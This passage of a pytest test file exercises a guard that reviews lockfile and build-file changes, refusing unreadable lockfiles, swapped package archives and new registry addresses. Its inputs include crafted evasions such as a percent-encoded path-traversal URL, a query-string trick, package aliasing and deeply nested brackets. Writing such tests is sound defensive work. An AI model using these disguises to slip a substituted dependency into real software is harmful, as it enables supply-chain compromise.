        pytest.param("package-lock.json", NPM_LOCK, "[" * 200_000, id="deep"),
        ("pnpm-lock.yaml", PNPM_LOCK, f"{PNPM_LOCK}a: [\n"),
        pytest.param("pnpm-lock.yaml", PNPM_LOCK, "[" * 200_000, id="deep YAML"),
        ("uv.lock", UV_LOCK, f"{UV_LOCK}="),
        ("package.json", "{}", '{"dependencies": {"a": 1,}}'),
    ],
)
def test_a_document_that_cannot_be_read_is_refused(path: str, before: str, after: str) -> None:
    (sentence,), remarked = told(path, before, after)
    assert remarked == ()
    assert sentence.startswith(f"`{path}` can't be read as ")
    assert sentence.endswith("so nobody knows what it fetches; write it with the tool that owns it.")


@pytest.mark.parametrize("before", ["", "{", "<<<<<<< main\n"])
def test_a_document_that_could_not_be_read_before_either_is_remarked(before: str) -> None:
    refused, (sentence,) = told("package-lock.json", before, "{{")
    assert refused == ()
    assert "can't be read as JSON" in sentence


def entry(**parts: object) -> str:
    return json.dumps({"packages": {"node_modules/a": parts}})


KEPT = entry(version="1.0.0", resolved=f"{OURS}/a/-/a-1.0.0.tgz")


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", KEPT, entry(resolved=f"{OURS}/ab/-/ab-1.0.0.tgz", version="1.0.0")),
        ("package-lock.json", KEPT, entry(version="1.0.0", dev=True, resolved=f"{OURS}/ab/-/ab-1.0.0.tgz")),
        ("package-lock.json", KEPT, entry(name="ab", version="1.0.0")),
        ("package-lock.json", KEPT, entry(resolved=f"{OURS}/ab/-/ab-1.0.0.tgz?/a/")),
        ("package-lock.json", KEPT, entry(resolved=f"{OURS}/a/-/%2e%2e/%2e%2e/ab/-/ab-1.0.0.tgz")),
        ("package-lock.json", OLD_LOCK, OLD_LOCK.replace("/a/-/a-", "/ab/-/ab-")),
        ("package-lock.json", OLD_LOCK, json.dumps({"dependencies": {"a": {"version": "npm:ab@1.0.0"}}})),
        (
            "package-lock.json",
            OLD_LOCK,
            json.dumps(
                {
                    "dependencies": {
                        "b": {"dependencies": json.loads(OLD_LOCK.replace("/a/-/a-", "/ab/-/ab-"))["dependencies"]}
                    }
                }
            ),
        ),
        (
            "yarn.lock",
            YARN_LOCK.replace("lodash", "a"),
            YARN_LOCK.replace("lodash", "a").replace("/a/-/a-", "/ab/-/ab-"),
        ),
        ("yarn.lock", YARN_LOCK, f'"@b/a@^1", a@1:\n  dependencies:\n    c "1"\n  resolved "{OURS}/@b/a/-/a-1.tgz"\n'),
        ("yarn.lock", BERRY_LOCK, BERRY_LOCK.replace("lodash", "a").replace('n: "a@', 'n: "ab@')),
        (
            "pnpm-lock.yaml",
            PNPM_LOCK,
            PNPM_LOCK.replace("integrity: sha512-AA==", "tarball: ab/-/ab-1.0.0.tgz"),
        ),
        *(
            ("pnpm-lock.yaml", text.format(own), text.format(other))
            for text, own in PNPM_LOCKS.items()
            for other in ("ab@1.0.0", "/ab/1.0.0", "'@b/a@1.0.0'", "packages.example.org/ab@1.0.0")
        ),
        (
            "uv.lock",
            f"{UV_LOCK}wheels = [{{ url = '{OURS}/aa/a-1.0-py3-none-any.whl' }}]\n",
            f"{UV_LOCK}wheels = [{{ url = '{OURS}/bb/ab-1.0-py3-none-any.whl' }}]\n",
        ),
    ],
)
def test_an_archive_of_another_package_is_refused_however_it_is_written(path: str, before: str, after: str) -> None:
    assert f"`{path}` fetches an archive of another name for `a`; restore it." in told(path, before, after)[0]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        *((text.format("1.0.1"), text.format(own)) for text, own in PNPM_LOCKS.items()),
        *((text.format("1.0.1"), text.format("a@1.0.0")) for text in PNPM_LOCKS),
        *(
            (text.format("1.0.1"), text.replace("^1.0.0", "npm:ab@^1").format("ab@1.0.0"))
            for text in PNPM_LOCKS
            if "^1.0.0" in text
        ),
        (
            next(iter(PNPM_LOCKS)).format("1.0.1"),
            next(iter(PNPM_LOCKS)).replace("^1.0.0", "'catalog:'").format("ab@1.0.0")
            + "catalogs: {default: {a: {specifier: 'npm:ab@^1', version: 1.0.0}}}\n",
        ),
    ],
)
def test_a_package_that_is_openly_asked_for_by_another_name_passes(before: str, after: str) -> None:
    assert told("pnpm-lock.yaml", before, after) == ((), ())


def test_a_comment_is_no_address() -> None:
    before = "dependencies {\n}\n"
    comment = "dependencies {\n  implementation 'a:b:1' //see PROJ-1, e.g. this\n//MARK\n x //e.g. that\n}\n"
    assert told("build.gradle", before, comment) == ((), ())
    assert told("Package.swift", "let a = 1\n", f"let a = 1 //MARK\n// see {OTHER}\n") == ((), ())
    assert told("build.gradle", before, f"{before} /* a\n * b */ maven {{ url '{OTHER}' }}\n")[0]
    for address in ("//mirror.example.net/maven", "http://mirror/maven", "//me@mirror.example.net/maven"):
        assert told("build.gradle", before, f"{before}maven {{ url '{address}' }}\n")[0]
    assert told("Package.swift", "let a = 1\n", f'.package(url: "{OTHER}/a.git", from: "1.0.0")\n')[0]
